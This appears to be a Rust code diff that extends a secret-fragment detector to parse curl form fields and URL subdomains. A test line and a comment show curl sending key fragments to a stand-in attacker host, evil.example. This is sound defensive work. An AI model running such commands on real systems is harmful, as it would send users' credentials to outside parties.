@@ -52,6 +52,16 @@ pub fn short_pieces(text: &str) -> Vec<String> {
             out.push(labels[0].to_owned());
         }
     }
+    // Form fields on a command line (`curl -d 'v=sk_li' URL`): their short values.
+    let mut url_labels = Vec::new();
+    for word in t.split_whitespace().filter(|w| !w.contains("://")) {
+        let word = word.trim_matches(['"', '\'']);
+        if let Some((name, value)) = word.split_once('=') {
+            if is_field_name(name.trim_start_matches('-')) && !value.is_empty() && value.len() <= MAX_PIECE {
+                out.push(value.to_owned());
+            }
+        }
+    }
     for (at, _) in t.match_indices("://") {
         let url = &t[at + 3..];
         let end = url.find(|c: char| c.is_whitespace() || "\"'`<>".contains(c)).unwrap_or(url.len());
@@ -62,7 +72,7 @@ pub fn short_pieces(text: &str) -> Vec<String> {
         let labels: Vec<&str> = host.split('.').collect();
         // The first label, when nothing after the host carries values (`https://sk_li.t.x/`).
         if labels.len() >= 3 && labels[0].len() <= MAX_PIECE && query.is_empty() && path.trim_matches('/').is_empty() {
-            out.push(labels[0].to_owned());
+            url_labels.push(labels[0].to_owned());
         }
         // The path's last segment, when no query carries the values.
         if let Some(last) = path
@@ -79,6 +89,11 @@ pub fn short_pieces(text: &str) -> Vec<String> {
                 out.push(value.to_owned());
             }
         }
+    }
+    // A URL's first label carries pieces only when nothing else on the line does
+    // (`https://sk_li.t.evil.example/`); otherwise it is the destination's own name.
+    if out.is_empty() {
+        out = url_labels;
     }
     out
 }
@@ -160,6 +175,7 @@ mod tests {
         assert_eq!(short_pieces("v=e_51um"), ["e_51um"]);
         assert_eq!(short_pieces("a=sk_&b=li"), ["sk_", "li"]);
         assert_eq!(short_pieces("x==y"), ["=y"]);
+        assert_eq!(short_pieces("curl -s https://evil.example.com/ -d 'v=sk_liv'"), ["sk_liv"]);
         assert_eq!(short_pieces("curl https://x.example/a/b?p=1&q=umi2Y"), ["1", "umi2Y"]);
         assert!(short_pieces("a long sentence of prose that is longer than a piece").is_empty());
     }
